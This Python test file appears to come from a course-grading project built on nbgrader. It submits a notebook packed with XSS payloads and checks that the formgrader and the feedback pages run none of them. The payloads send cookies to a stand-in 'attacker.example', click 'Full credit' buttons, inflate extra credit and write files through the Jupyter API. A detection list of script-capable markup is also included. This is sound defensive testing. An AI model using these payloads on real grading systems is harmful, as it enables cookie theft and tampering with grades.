"""A submission full of script reaches the instructor's formgrader and the feedback: nothing runs.

The student "hostile" answers question 1 with every way we know to put script in a notebook: a
written answer with ``<img onerror>``, ``<script>``, ``javascript:`` links, ``<svg onload>``, an
``<iframe srcdoc>``, ``<base>``, ``<meta refresh>``, ``<form>``, ``<object>``; a code answer whose
outputs are HTML with script, JavaScript, an SVG with a script, isolated HTML, and markdown with
an event handler; a file ``evil.html`` next to the notebook that the answer links to; and the
hidden-test marker typed into answers. Every payload, if it ran, would do what the red team's did:
set ``__pwned`` in its window and JupyterLab's, call an attacker URL, click every "Full credit"
button, and write a file into the course through the Jupyter contents API.

The submission goes through the real pipeline (the runner autogrades it in a course copy;
``nbgrader generate_feedback`` renders its feedback). Then Chromium opens the formgrader through
JupyterLab, grades the written answer by hand, clicks every link of the answer, and opens the
feedback file. Checked: no request left for the attacker, no ``__pwned`` anywhere, the gradebook
holds exactly the one grade and comment entered (nothing else changed), no file appeared in the
course, every formgrader page came with a Content-Security-Policy without 'unsafe-inline' for
scripts, and the formgrader's own inline scripts were not refused (it still works).
"""
import re
import sys

import nbformat
import pytest
from nbformat.v4 import new_markdown_cell
from playwright.sync_api import expect

from browser_helpers import Lab, grade_with_rubric, open_formgrader, ready_to_grade, settled
from course_helpers import build_students, make_course, run
from grading import sample_class
from grading.cells import grade_id
from grading.course import ASSIGNMENT
from ml_conceptual.sample_class import Q1

STUDENT = "hostile"
ATTACKER = "attacker.example"
# What every payload does if it runs (single quotes only: it sits in double-quoted attributes).
PAYLOAD = ("(function(){window.__pwned=(window.__pwned||0)+1;"
           "try{top.__pwned=(top.__pwned||0)+1}catch(e){}"
           f"fetch('http://{ATTACKER}/steal?c='+encodeURIComponent(document.cookie)).catch(function(){{}});"
           "document.querySelectorAll('.full-credit').forEach(function(b){b.click()});"
           "document.querySelectorAll('input.extra-credit').forEach(function(i){i.value=99;"
           "i.dispatchEvent(new Event('change'))});"
           "var x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'';"
           "fetch('/api/contents/pwned.txt',{method:'PUT',headers:{'X-XSRFToken':decodeURIComponent(x),"
           "'Content-Type':'application/json'},body:JSON.stringify({type:'file',format:'text',content:'pwned'})})"
           ".catch(function(){})})()")
MARKER_NOTE = "### BEGIN HIDDEN TESTS (the instructor's word: I read it in the release notes)"
BENIGN = r"""The gradient is $\partial L / \partial z_j = P_j - y_j$ and $a<b$ holds.

| term | value |
| --- | --- |
| $P_j$ | softmax |

**bold words** and `<script>` in code, shown as text.

![a figure](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==)
"""  # noqa: E501 (a data: URI, on one line as a student would paste it)
HOSTILE_MARKDOWN = BENIGN + f"""
{MARKER_NOTE}

<img src=x onerror="{PAYLOAD}">

<script>{PAYLOAD}</script>

<a id="js-link" href="javascript:{PAYLOAD}">a javascript: link</a> and [a markdown one](javascript:{PAYLOAD.replace('(', '%28').replace(')', '%29')})

<svg onload="{PAYLOAD}"><circle r="5"/></svg>

<iframe srcdoc="<script>{PAYLOAD}</script>"></iframe>

<details open ontoggle="{PAYLOAD}"><summary>details</summary>hidden</details>

<input autofocus onfocus="{PAYLOAD}">

<object data="javascript:{PAYLOAD}"></object><embed src="javascript:{PAYLOAD}">

<form action="javascript:{PAYLOAD}"><button id="form-button">submit</button></form>

<base href="http://{ATTACKER}/">

<meta http-equiv="refresh" content="0;url=javascript:{PAYLOAD}">

<style>@import url(http://{ATTACKER}/style.css);</style>

<a id="file-link" href="evil.html">my notes</a>
"""  # noqa: E501 (the payloads, one per line)
_IMG = f'<img src=x onerror="{PAYLOAD}">'
_SCRIPT = f"<script>{PAYLOAD}</script>"
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PAYLOAD}">{_SCRIPT}</svg>'
HOSTILE_CODE = "\n".join([
    "from IPython.display import HTML, SVG, Javascript, Markdown, display",
    f"display(HTML({'<b>table</b>' + _SCRIPT + _IMG!r}))",
    f"display(Javascript({PAYLOAD!r}))",
    f"display(SVG({_SVG!r}))",
    f"display(HTML({'<p>isolated</p>' + _SCRIPT!r}), metadata={{'text/html': {{'isolated': True}}}})",
    f"display(Markdown({_IMG!r}))",
    f"display({{'text/html': {_IMG!r}, 'application/javascript': {PAYLOAD!r}}}, raw=True)",
    "# " + MARKER_NOTE,
])
EVIL_FILE = f"<!doctype html><html><body><p>evil</p><script>{PAYLOAD}</script></body></html>"


# Elements and attributes under a node that could run script or leave the page.
DANGEROUS_ELEMENTS = """root => {
  const bad = [];
  for (const el of root.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'form', 'base', 'meta', 'svg', 'style', 'frame',
         'link', 'maction', 'annotation-xml', 'mglyph', 'malignmark'].includes(tag)) bad.push(tag);
    for (const a of el.attributes) {
      const v = a.value.replace(/[\\s\\u0000-\\u001f]/g, '').toLowerCase();
      if (a.name.toLowerCase().startsWith('on')) bad.push(tag + '[' + a.name + ']');
      if (['href', 'src', 'action', 'formaction', 'data', 'srcdoc', 'xlink:href'].includes(a.name.toLowerCase())
          && (v.startsWith('javascript:') || v.startsWith('data:text') || a.name === 'srcdoc'))
        bad.push(tag + '[' + a.name + '=' + v.slice(0, 30) + ']');
    }
  }
  return bad;
}"""


def hostile_submission(root):
    """Write the hostile student's submission into root/submitted/: question 1, solved, with the
    payloads (the other notebooks are not submitted: they would only be graded and rendered)."""
    folder = root / "submitted" / STUDENT / ASSIGNMENT
    folder.mkdir(parents=True)
    nb = sample_class.solved_notebook(Q1, root / "source" / ASSIGNMENT, root / "release" / ASSIGNMENT)
    for cell in nb.cells:
        cell_id = grade_id(cell)
        if cell_id == "derivation":
            cell.source = HOSTILE_MARKDOWN
        elif cell_id == "softmax":
            cell.source += "\n" + HOSTILE_CODE
    # an unmarked cell of the student's own, with the payload too
    nb.cells.insert(3, new_markdown_cell(f'<img src=x onerror="{PAYLOAD}"> my own cell'))
    nbformat.write(nb, folder / f"{Q1}.ipynb")
    for helper in (root / "release" / ASSIGNMENT).glob("*.py"):
        (folder / helper.name).write_text(helper.read_text())
    (folder / "evil.html").write_text(EVIL_FILE)


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    from nbgrader.api import Gradebook
    root = make_course(tmp_path_factory.mktemp("hostile_course"))
    hostile_submission(root)
    build_students(root, ["reference"], notebooks=[Q1])  # another student, whose grades must not change
    with Gradebook(f"sqlite:///{root}/gradebook.db") as gb:
        for student in (STUDENT, "reference"):
            gb.update_or_create_student(student)
    run([sys.executable, "-m", "grading.batch.runner", "--workers", "2",
         "--student", STUDENT, "--student", "reference"], cwd=root)
    graded = nbformat.read(root / "autograded" / STUDENT / ASSIGNMENT / f"{Q1}.ipynb", as_version=4)
    outputs = [o for c in graded.cells if grade_id(c) == "softmax"
               for o in c.get("outputs", [])]
    mimes = {m for o in outputs for m in o.get("data", {})}
    # the attack must really be in the graded copy, or the test below proves nothing
    assert {"text/html", "application/javascript", "image/svg+xml", "text/markdown"} <= mimes, mimes
    assert (root / "autograded" / STUDENT / ASSIGNMENT / "evil.html").exists()
    return root


@pytest.fixture(scope="module")
def feedback(course):
    """Feedback for the whole class (both students): it must not fail on the hidden-test marker."""
    run(["nbgrader", "generate_feedback", ASSIGNMENT, "--force"], cwd=course)
    return course / "feedback"


@pytest.fixture(scope="module")
def instructor_lab(course, feedback, tmp_path_factory):
    lab = Lab(course, tmp_path_factory.mktemp("state"))
    yield lab
    lab.stop()


def _gradebook_state(root):
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{root}/gradebook.db") as gb:
        state = {}
        for student in (STUDENT, "reference"):
            sub = gb.find_submission(ASSIGNMENT, student)
            for nb in sub.notebooks:
                for g in nb.grades:
                    state[(student, nb.name, g.name, "grade")] = (g.auto_score, g.manual_score, g.extra_credit)
                for c in nb.comments:
                    state[(student, nb.name, c.name, "comment")] = c.manual_comment
    return state


def _files(root):
    return {p.relative_to(root) for p in root.rglob("*")
            if ".ipynb_checkpoints" not in p.parts and not p.name.startswith("gradebook.db")}


class Recorder:
    """Every request the browser context makes (also one a CSP then blocks: Chromium reports the
    attempt), every formgrader document's CSP header, the console. Nothing leaves the machine:
    a request for another host is aborted after it is recorded."""

    def __init__(self, context, allowed_prefix):
        self.requests, self.documents, self.console = [], [], []
        context.on("request", lambda r: self.requests.append(r.url))
        context.on("response", self._response)
        context.route("**/*", lambda route: route.continue_() if route.request.url.startswith(allowed_prefix)
                      else route.abort())

    def _response(self, response):
        if response.request.resource_type == "document" and "/formgrader" in response.url:
            self.documents.append((response.url, response.headers.get("content-security-policy")))

    def watch(self, page):
        page.on("console", lambda m: self.console.append(m.text))

    def attacker_requests(self):
        return [u for u in self.requests if ATTACKER in u or "pwned" in u or "steal" in u]


def _pwned(page):
    """__pwned in the top window and in every frame (JupyterLab, formgrader iframe)."""
    found = {}
    for frame in page.frames:
        try:
            value = frame.evaluate("() => window.__pwned")
        except Exception:  # noqa: BLE001 - a frame navigating away; the others still count
            continue
        if value:
            found[frame.url] = value
    return found


def test_formgrader_runs_no_student_script(instructor_lab, course, browser, shots):
    from nbgrader.api import Gradebook
    before_grades, before_files = _gradebook_state(course), _files(course)
    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    rec = Recorder(context, instructor_lab.base)
    page = context.new_page()
    rec.watch(page)
    try:
        frame = open_formgrader(page, instructor_lab)
        frame.locator(f"a[href*='manage_submissions/{ASSIGNMENT}']").first.wait_for(timeout=60000)
        frame.locator("a[href*='/gradebook']").first.click()
        frame.locator(f"a[href*='gradebook/{ASSIGNMENT}']").first.click()
        frame.locator(f"a[href*='gradebook/{ASSIGNMENT}/{Q1}']").first.click()
        frame.locator("table tbody tr").first.wait_for(timeout=30000)
        with Gradebook(f"sqlite:///{course}/gradebook.db") as gb:
            sub_id = gb.find_submission_notebook(Q1, ASSIGNMENT, STUDENT).id
        frame.locator(f"a[href*='submissions/{sub_id}']").first.click()
        score = frame.locator("input#derivation.score")
        score.wait_for(timeout=30000)
        settled(page)  # every image failed to load and every frame loaded: what the payloads wait for
        shots(page, "hostile_submission")
        assert not _pwned(page), f"student script ran: {_pwned(page)}"
        assert not rec.attacker_requests(), rec.attacker_requests()

        # the rendered answer: the student's text is there, its script is not
        content = frame.locator("#notebook").first
        text = content.inner_text()
        assert "holds" in text and "bold words" in text and "BEGIN HIDDEN TESTS" in text
        # the answer's two formulas are MathML (rendered without script), the LaTeX kept as alttext
        alts = content.locator("math").evaluate_all("ms => ms.map(m => m.getAttribute('alttext'))")
        assert r"\partial L / \partial z_j = P_j - y_j" in alts and "a<b" in alts, "math must render as MathML"
        rendered = content.evaluate("e => e.innerHTML")
        assert "<table>" in rendered and "data:image/png;base64," in rendered
        # a code output's SVG is shown as an image, which runs no script
        assert "data:image/svg+xml;base64," in rendered
        # (the payload's text is in the page, as the highlighted code of the answer: look at elements)
        found = content.evaluate(DANGEROUS_ELEMENTS)
        assert not found, f"script-capable markup reached the formgrader page: {found}"
        # the formgrader still works: grade and comment the written answer
        ready_to_grade(frame)
        expected = grade_with_rubric(frame, "derivation", ("1", "3"), Q1)
        expect(score).to_have_value(f"{expected:g}", timeout=10000)
        # an instructor clicks what the answer offers
        for selector in ("a#student-content-js-link", "button#student-content-form-button", "summary"):
            for el in content.locator(selector).all():
                el.click(timeout=5000)
        settled(page)
        shots(page, "after_clicks")
        assert not _pwned(page), _pwned(page)
        # the student's evil.html, served by the formgrader, opens in the formgrader's frame
        with page.expect_event("framenavigated", lambda f: f.url.split("?")[0].endswith("evil.html")):
            frame.locator("a#student-content-file-link").click()
        expect(frame.locator("body")).to_contain_text("evil")
        settled(page)  # evil.html loaded: its script had its chance
        shots(page, "evil_file")
        assert not _pwned(page), _pwned(page)
    finally:
        context.close()

    assert not rec.attacker_requests(), rec.attacker_requests()
    refused = [m for m in rec.console if "Content Security Policy" in m and "script" in m]
    # the files page is sandboxed: its (student) script is refused there, and only there
    assert all("sandbox" in m or "evil.html" in m for m in refused), refused
    pages = {url.split("?")[0]: csp for url, csp in rec.documents}
    assert len(pages) >= 5, pages  # formgrader, gradebook x3, submission, evil.html
    for url, csp in pages.items():
        assert csp, f"{url} came without a Content-Security-Policy"
        script_src = re.search(r"script-src ([^;]*)", csp).group(1)
        assert "'unsafe-inline'" not in script_src and "'unsafe-eval'" not in script_src, (url, csp)
    evil = [csp for url, csp in pages.items() if url.endswith("evil.html")]
    assert evil and "sandbox" in evil[0]

    after = _gradebook_state(course)
    changed = {k: (before_grades.get(k), v) for k, v in after.items() if before_grades.get(k) != v}
    assert set(changed) == {(STUDENT, Q1, "derivation", "grade"), (STUDENT, Q1, "derivation", "comment")}, changed
    assert after[(STUDENT, Q1, "derivation", "grade")][1:] == (2.0, None)  # items 1 and 3 of the rubric
    assert "One-hot labels reduce" in after[(STUDENT, Q1, "derivation", "comment")]
    assert _files(course) == before_files, _files(course) ^ before_files


def test_feedback_runs_no_student_script(feedback, browser, shots):
    page_file = feedback / STUDENT / ASSIGNMENT / f"{Q1}.html"
    html = page_file.read_text()
    assert "BEGIN HIDDEN TESTS" in html, "the student's own text must survive in feedback"
    assert (feedback / "reference" / ASSIGNMENT / f"{Q1}.html").exists()
    context = browser.new_context(viewport={"width": 1200, "height": 1000})
    rec = Recorder(context, "file:")
    page = context.new_page()
    try:
        page.goto(page_file.as_uri())  # returns once the page has loaded
        expect(page.locator("body")).to_contain_text("bold words")
        settled(page)
        shots(page, "feedback")
        for el in page.locator("a#student-content-js-link, summary").all():
            el.click(timeout=5000)
        settled(page)
        assert not _pwned(page)
    finally:
        context.close()
    assert not rec.attacker_requests(), rec.attacker_requests()
